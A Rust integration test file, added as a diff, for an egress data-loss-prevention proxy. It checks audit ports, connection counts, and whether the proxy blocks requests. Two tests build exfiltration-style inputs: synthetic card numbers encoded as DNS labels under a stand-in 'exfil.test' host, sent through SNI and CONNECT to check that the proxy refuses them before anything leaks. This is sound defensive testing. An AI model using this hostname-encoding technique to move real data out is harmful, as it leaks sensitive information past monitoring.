@@ -1,0 +1,296 @@
+//! What an intercepted (or blind) CONNECT records and sends before any request inside it
+//! is inspected, over real loopback sockets: a CONNECT's host and a ClientHello's server
+//! name carrying identifiers are judged before the proxy connects or hands the name on;
+//! the audit port of an intercepted request on 443; the active-connection gauge while a
+//! tunnel is open. Each of these was found in review (session 9) and failed before its
+//! fix.
+
+mod ops_support;
+mod support;
+#[path = "support/tls.rs"]
+mod tls_support;
+
+use std::net::{IpAddr, SocketAddr};
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use hyper::service::service_fn;
+use hyper_util::rt::TokioIo;
+use support::{Behavior, Recorded, customer_export, record};
+use tls_support::{ServerCert, TestCa, TlsProxy, provider, send, tls_via};
+use tokio::net::TcpListener;
+
+/// A proxy intercepting CONNECTs to `ports`, trusting `ca` for upstreams, plus `extra`
+/// (top-level YAML, may add keys under `tls:` with two-space indent first).
+async fn proxy(ca: &TestCa, ports: &[u16], extra: &str) -> TlsProxy {
+    let ports: Vec<String> = ports.iter().map(u16::to_string).collect();
+    TlsProxy::start(&format!(
+        "tls:\n  upstream_roots: ['{}']\n{extra}access:\n  connect_ports: [{}]\n",
+        ca.pem_path.display(),
+        ports.join(", ")
+    ))
+    .await
+}
+
+/// A recording HTTPS (HTTP/1.1) upstream bound to `addr` (any loopback address and port,
+/// e.g. 443 on a 127.x address of its own).
+async fn tls_upstream_at(
+    addr: SocketAddr,
+    cert: ServerCert,
+) -> (SocketAddr, Arc<Mutex<Vec<Arc<Mutex<Recorded>>>>>) {
+    let (addr, seen, _) = tls_upstream_sni(addr, cert).await;
+    (addr, seen)
+}
+
+/// [`tls_upstream_at`], also recording the server name (SNI) of every TLS handshake.
+async fn tls_upstream_sni(
+    addr: SocketAddr,
+    cert: ServerCert,
+) -> (
+    SocketAddr,
+    Arc<Mutex<Vec<Arc<Mutex<Recorded>>>>>,
+    Arc<Mutex<Vec<String>>>,
+) {
+    assert!(addr.ip().is_loopback());
+    let mut config = rustls::ServerConfig::builder_with_provider(provider())
+        .with_safe_default_protocol_versions()
+        .unwrap()
+        .with_no_client_auth()
+        .with_single_cert(cert.chain.clone(), cert.key.clone_key())
+        .unwrap();
+    config.alpn_protocols = vec![b"http/1.1".to_vec()];
+    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
+    let listener = TcpListener::bind(addr).await.unwrap();
+    let addr = listener.local_addr().unwrap();
+    let seen: Arc<Mutex<Vec<Arc<Mutex<Recorded>>>>> = Arc::default();
+    let snis: Arc<Mutex<Vec<String>>> = Arc::default();
+    let (s, n) = (seen.clone(), snis.clone());
+    tokio::spawn(async move {
+        while let Ok((stream, _)) = listener.accept().await {
+            let (acceptor, s, n) = (acceptor.clone(), s.clone(), n.clone());
+            tokio::spawn(async move {
+                let Ok(tls) = acceptor.accept(stream).await else {
+                    return;
+                };
+                if let Some(name) = tls.get_ref().1.server_name() {
+                    n.lock().unwrap().push(name.to_owned());
+                }
+                let behavior = Arc::new(Mutex::new(Behavior::Respond));
+                let service = service_fn(move |req| record(req, s.clone(), behavior.clone()));
+                let _ = hyper::server::conn::http1::Builder::new()
+                    .serve_connection(TokioIo::new(tls), service)
+                    .await;
+            });
+        }
+    });
+    (addr, seen, snis)
+}
+
+/// Waits (up to 5 s) for `n` audit events in the proxy's audit log.
+async fn audit_events(proxy: &TlsProxy, n: usize) -> Vec<serde_json::Value> {
+    let path = proxy.data_dir.path().join("audit.jsonl");
+    let mut events = Vec::new();
+    for _ in 0..100 {
+        events = ops_support::json_lines(&path);
+        if events.len() >= n {
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+    events
+}
+
+/// The audit event of a request inside an intercepted CONNECT to port 443 names port 443
+/// (the retargeted `https://name/path` leaves the default port out; it was recorded as 80).
+#[tokio::test]
+async fn audit_event_of_an_intercepted_https_request_on_443_names_port_443() {
+    let ca = TestCa::new();
+    // A loopback address of its own, so that port 443 is free whatever else runs here.
+    let pid = std::process::id();
+    let ip = IpAddr::from([127, 66, (pid >> 8) as u8, pid as u8 | 1]);
+    let (addr, seen) = tls_upstream_at(
+        SocketAddr::new(ip, 443),
+        ca.issue(&["upstream.test"], false),
+    )
+    .await;
+    let proxy = proxy(&ca, &[443], "").await;
+    let stream = tls_via(
+        proxy.addr,
+        &addr.to_string(),
+        "upstream.test",
+        &[proxy.ca_cert()],
+        &["http/1.1"],
+    )
+    .await
+    .unwrap();
+    let reply = send(
+        stream,
+        "POST",
+        "upstream.test",
+        "/export",
+        customer_export(40).as_bytes(),
+    )
+    .await;
+    assert_eq!(reply.status, 403, "{}", reply.body);
+    assert!(
+        seen.lock().unwrap().is_empty(),
+        "the upstream got the export"
+    );
+    let events = audit_events(&proxy, 1).await;
+    let event = events
+        .iter()
+        .find(|e| e["action"] == "block")
+        .unwrap_or_else(|| panic!("no block event: {events:?}"));
+    assert_eq!(event["host"], "upstream.test", "{event}");
+    assert_eq!(event["port"], 443, "audit event: {event}");
+}
+
+/// `egress_dlp_active_connections` counts an intercepted client connection as long as it
+/// is open (it was counted only until hyper handed the CONNECT's socket to the tunnel).
+#[tokio::test]
+async fn an_open_intercepted_connection_is_counted_as_an_active_connection() {
+    let ca = TestCa::new();
+    let upstream =
+        tls_support::TlsUpstream::start(ca.issue(&["upstream.test"], false), &["h2", "http/1.1"])
+            .await;
+    let proxy = proxy(&ca, &[upstream.addr.port()], "").await;
+    let authority = format!("upstream.test:{}", upstream.addr.port());
+    // An HTTP/2 connection: the request below leaves it open (the client holds it).
+    let stream = tls_via(
+        proxy.addr,
+        &upstream.addr.to_string(),
+        "upstream.test",
+        &[proxy.ca_cert()],
+        &["h2"],
+    )
+    .await
+    .unwrap();
+    let io = TokioIo::new(stream);
+    let (mut sender, conn) =
+        hyper::client::conn::http2::handshake(hyper_util::rt::TokioExecutor::new(), io)
+            .await
+            .unwrap();
+    tokio::spawn(conn);
+    let req = http::Request::builder()
+        .uri(format!("https://{authority}/alive"))
+        .body(http_body_util::Empty::<bytes::Bytes>::new())
+        .unwrap();
+    let resp = sender.send_request(req).await.unwrap();
+    assert_eq!(resp.status(), 200);
+    // The connection is open and usable: it is an active client connection.
+    tokio::time::sleep(Duration::from_millis(200)).await;
+    let scrape = proxy.scrape().await;
+    let active = scrape.get("egress_dlp_active_connections");
+    // Still usable after the scrape.
+    let req = http::Request::builder()
+        .uri(format!("https://{authority}/still-alive"))
+        .body(http_body_util::Empty::<bytes::Bytes>::new())
+        .unwrap();
+    assert_eq!(sender.send_request(req).await.unwrap().status(), 200);
+    assert_eq!(
+        active, 1.0,
+        "egress_dlp_active_connections with one intercepted connection open"
+    );
+}
+
+/// `n` distinct 16-digit numbers that pass the Luhn check (the fixture `card` rule: log at
+/// 3, block at 10 distinct).
+fn card_numbers(n: usize) -> Vec<String> {
+    (0..n as u64)
+        .map(|i| {
+            let body = format!("411111{:09}", 100_000_000 + i * 7919);
+            let digits: Vec<u32> = body.chars().map(|c| c.to_digit(10).unwrap()).collect();
+            // Luhn check digit for `body`.
+            let sum: u32 = digits
+                .iter()
+                .rev()
+                .enumerate()
+                .map(|(k, &d)| {
+                    if k % 2 == 0 {
+                        let x = d * 2;
+                        if x > 9 { x - 9 } else { x }
+                    } else {
+                        d
+                    }
+                })
+                .sum();
+            format!("{body}{}", (10 - sum % 10) % 10)
+        })
+        .collect()
+}
+
+/// Ten card numbers as the labels of a ClientHello's server name (the CONNECT is to the
+/// address): judged before the upstream handshake, which would carry the name out. The
+/// upstream sees no handshake at all, the request inside gets the block page, and the
+/// CONNECT is recorded as a block. (The upstream got the name before, though the request
+/// inside was then blocked.)
+#[tokio::test]
+async fn card_numbers_in_the_server_name_do_not_reach_the_upstream_before_the_verdict() {
+    let ca = TestCa::new();
+    let cards = card_numbers(10);
+    let name = format!("{}.exfil.test", cards.join("."));
+    assert!(name.len() < 250, "{}", name.len());
+    let (addr, seen, snis) = tls_upstream_sni(
+        SocketAddr::from(([127, 0, 0, 1], 0)),
+        ca.issue(&[name.as_str()], false),
+    )
+    .await;
+    let proxy = proxy(&ca, &[addr.port()], "").await;
+    let stream = tls_via(
+        proxy.addr,
+        &addr.to_string(),
+        &name,
+        &[proxy.ca_cert()],
+        &["http/1.1"],
+    )
+    .await
+    .unwrap();
+    let reply = send(stream, "GET", &name, "/", b"").await;
+    // The proxy itself judges the name a block...
+    assert_eq!(reply.status, 403, "{}", reply.body);
+    assert!(reply.body.contains("10 distinct"), "{}", reply.body);
+    assert!(seen.lock().unwrap().is_empty());
+    // ...but the upstream has them already.
+    let leaked: Vec<String> = snis.lock().unwrap().clone();
+    assert!(
+        leaked.is_empty(),
+        "the upstream received the card numbers in the SNI before the verdict: {leaked:?}"
+    );
+    let events = audit_events(&proxy, 1).await;
+    let connect = events
+        .iter()
+        .find(|e| e["method"] == "CONNECT")
+        .unwrap_or_else(|| panic!("no event for the CONNECT: {events:?}"));
+    assert_eq!(connect["action"], "block", "{connect}");
+    assert!(
+        !connect.to_string().contains(&cards[0]),
+        "a card number in the event: {connect}"
+    );
+}
+
+/// A blind tunnel (`tls.intercept: false`) to a host whose labels are ten card numbers:
+/// refused with 403 and recorded, before the proxy looks the name up or connects (nothing
+/// looked at the host before: the labels went out in the lookup).
+#[tokio::test]
+async fn a_connect_host_carrying_card_numbers_is_refused_before_the_lookup() {
+    let cards = card_numbers(10);
+    let port = 4443;
+    let mut proxy = ops_support::OpsProxy::start(&format!(
+        "tls: {{ intercept: false }}\naccess: {{ connect_ports: [{port}] }}\n"
+    ))
+    .await;
+    let target = format!("{}.exfil.test:{port}", cards.join("."));
+    let (status, _stream) = tls_support::connect(proxy.addr, &target).await;
+    proxy.stop().await;
+    assert_eq!(status, 403, "CONNECT {target}");
+    let events = ops_support::json_lines(&proxy.audit_path());
+    assert_eq!(events.len(), 1, "{events:?}");
+    assert_eq!(events[0]["action"], "block", "{}", events[0]);
+    assert_eq!(events[0]["method"], "CONNECT", "{}", events[0]);
+    assert_eq!(events[0]["port"], port, "{}", events[0]);
+    assert!(
+        !events[0].to_string().contains(&cards[0]),
+        "a card number in the event: {}",
+        events[0]
+    );
+}
